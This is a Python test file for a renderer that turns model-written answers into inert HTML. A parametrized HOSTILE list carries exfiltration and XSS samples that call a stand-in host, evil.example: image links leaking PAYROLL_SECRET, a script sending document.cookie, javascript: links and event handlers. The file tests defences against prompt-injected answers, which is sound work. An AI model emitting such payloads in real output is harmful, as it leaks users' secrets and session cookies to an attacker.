"""The panels render answers as formatting only: no image is loaded, no link can be clicked.

An answer is written by a model that read engine text, so it is treated as hostile: each case is
parsed back with the standard library's HTML parser and every tag and attribute is checked
against the allowlist, not just searched for a string.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from resync_ext.kernel.widgets.render import ALLOWED_TAGS, markdown_html


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    return parser


HOSTILE = [
    "![chart](https://evil.example/p.png?d=PAYROLL_SECRET)",
    "![](//evil.example/p.png)",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "<script>fetch('https://evil.example/?'+document.cookie)</script>",
    '<a href="https://evil.example" onclick="x()">click</a>',
    "[click me](javascript:alert(document.domain))",
    "[open](https://evil.example/steal?d=PAYROLL_SECRET)",
    "<https://evil.example/auto>",
    "[![badge](https://evil.example/b.svg)](https://evil.example/)",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{background:url(https://evil.example/bg)}</style>",
    '<svg onload="alert(1)"><image href="https://evil.example/i"/></svg>',
    '[ref]\n\n[ref]: https://evil.example/ref "title"',
    "```html\n<img src=https://evil.example/c.png>\n```",
    '<div style="background:url(https://evil.example/d)">styled</div>',
]


@pytest.mark.parametrize("answer", HOSTILE)
def test_no_tag_outside_the_allowlist_and_no_attribute_survives(answer: str) -> None:
    parsed = _parse(markdown_html(answer))
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, (tag, answer)
        assert attrs == [], (tag, attrs, answer)


def test_images_are_text_never_loaded() -> None:
    html = markdown_html("Trend: ![chart](https://evil.example/p.png?d=SECRET)")
    assert "<img" not in html
    assert "[image: chart (https://evil.example/p.png?d=SECRET)]" in html


def test_links_show_their_target_as_text() -> None:
    html = markdown_html("See [the runbook](https://wiki.example/runbooks/abend) first.")
    assert "<a" not in html
    assert "See the runbook (https://wiki.example/runbooks/abend) first." in html
    auto = markdown_html("<https://wiki.example/x>")
    assert "<a" not in auto and "https://wiki.example/x" in auto
    assert auto.count("https://wiki.example/x") == 1
    ref = markdown_html("[runbook]\n\n[runbook]: https://wiki.example/ref")
    assert "runbook (https://wiki.example/ref)" in ref


def test_javascript_links_and_raw_html_are_inert_text() -> None:
    html = markdown_html("[x](javascript:alert(1)) <script>alert(2)</script>")
    assert "<script" not in html and "javascript:alert(1)" in html  # shown, not a link
    assert "&lt;script&gt;" in html


def test_formatting_is_kept() -> None:
    html = markdown_html(
        "**PAYROLL_EXTRACT** abended with `ORA-01017`.\n\n1. Fix the password\n2. Rerun it\n\n"
        "| job | rc |\n|---|---|\n| PAYROLL_EXTRACT | 12 |\n\n```\nsqlplus /nolog\n```"
    )
    tags = {t for t, _ in _parse(html).tags}
    assert {"strong", "code", "ol", "li", "table", "td", "pre"} <= tags
    assert "PAYROLL_EXTRACT" in html and "sqlplus /nolog" in html
